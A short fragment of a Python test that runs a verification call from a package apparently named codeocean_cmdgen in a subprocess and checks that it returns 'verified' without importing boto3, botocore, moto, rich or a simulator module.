        "import sys; from codeocean_cmdgen import verify; from pathlib import Path\n"
        f"assert verify.of_paths([{str(file)!r}], b'')[0].word == 'verified'\n"
        "bad = ('boto3', 'botocore', 'moto', 'rich', 'codeocean_cmdgen.simulator')\n"
        "assert not [name for name in sys.modules if name.startswith(bad)]\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
